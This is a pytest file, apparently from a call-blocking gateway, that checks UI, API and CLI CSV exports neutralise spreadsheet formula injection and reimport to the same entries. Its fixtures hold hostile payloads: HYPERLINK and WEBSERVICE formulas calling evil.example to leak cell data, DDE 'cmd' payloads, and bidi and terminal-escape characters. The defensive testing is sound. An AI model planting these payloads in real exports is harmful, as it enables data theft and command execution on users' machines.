"""CSV formula injection: every export (UI, API, CLI), read back with a CSV reader cell by cell.

The hostile labels arrive the three ways strangers' text does: a CSV import, a vCard and a
subscribed list. No exported cell may begin with what a spreadsheet evaluates, and the export
must import again to the very same entries.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient

from gateway import untrusted
from gateway.cli import main
from gateway.config import Settings
from gateway.feeds.subscriptions import add_subscription, refresh
from gateway.store.csv_cells import FORMULA_START
from tests.helpers import Services
from tests.web.support import post
from web.security import new_api_token

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already "quoted" by its author: must come back exactly so
]


def seed(service: Services, tmp_path: Path) -> None:
    store = service.store
    lines = [f'06123456{i:02d},"{label}"' for i, label in enumerate(
        v.replace('"', '""') for v in HOSTILE)]
    report = store.list_files.import_csv(io.StringIO("\n".join(lines) + "\n"), "block")
    assert report.added == len(HOSTILE), report.rejected
    feed = tmp_path / "feed.csv"
    feed.write_text("0162000001,=WEBSERVICE(\"http://evil.example\")\n"
                    "0162000002,\u202etxt.exe\x1b[2J\n", encoding="utf-8")
    sub = add_subscription(service.db, "block", str(feed))
    assert refresh(service.db, service.settings, sub.id).ok


def check_cells(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["pattern", "label", "kind", "action", "expires_at", "once"]
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in FORMULA_START, (row, cell)
            assert not {"\u202e", "\x1b", "\x00"} & set(cell), (row, cell)
    return rows


def assert_reimports_the_same(service: Services, text: str) -> None:
    store = service.store
    before = sorted((e.kind.value, e.pattern, e.label) for e in store.entries.find("block"))
    for entry in store.entries.find("block"):
        store.entries.remove(entry.id)
    store.list_files.import_csv(io.StringIO(text, newline=""), "block")
    after = sorted((e.kind.value, e.pattern, e.label) for e in store.entries.find("block"))
    assert after == [(k, p, untrusted.strip_controls(label)) for k, p, label in before]
    labels = {label for _, _, label in after}
    assert {h.strip() for h in HOSTILE} <= labels | {h for h in HOSTILE}


def test_the_ui_export_is_inert_and_reimports(client: FlaskClient, service: Services,
                                               tmp_path: Path) -> None:
    seed(service, tmp_path)
    text = client.get("/transfer/export/block.csv").get_data(as_text=True)
    rows = check_cells(text)
    assert len(rows) == len(HOSTILE) + 3
    assert_reimports_the_same(service, text)


def test_the_api_export_is_inert(app: Flask, service: Services, tmp_path: Path) -> None:
    seed(service, tmp_path)
    token = new_api_token(service.store)
    response = app.test_client().get("/api/lists/block/export",
                                     headers={"Authorization": f"Bearer {token}"})
    check_cells(response.get_data(as_text=True))


def test_the_cli_export_is_inert(settings: Settings, service: Services, tmp_path: Path,
                                 capsys: pytest.CaptureFixture[str]) -> None:
    seed(service, tmp_path)
    config = tmp_path / "config.toml"
    config.write_text('language = "en"\n', encoding="utf-8")
    out = tmp_path / "block.csv"
    assert main(["--config", str(config), "export", "--list", "block", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    check_cells(text)
    assert_reimports_the_same(service, text)


def test_a_vcard_name_is_inert_in_the_export(client: FlaskClient, service: Services) -> None:
    card = ("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:=HYPERLINK(\"http://evil.example\")\r\n"
            "TEL:06 12 34 56 78\r\nEND:VCARD\r\n")
    post(client, "/transfer/contacts", {"file": (io.BytesIO(card.encode()), "c.vcf")},
         content_type="multipart/form-data")
    rows = check_cells(client.get("/transfer/export/allow.csv").get_data(as_text=True))
    assert rows[1][1] == "'=HYPERLINK(\"http://evil.example\")"
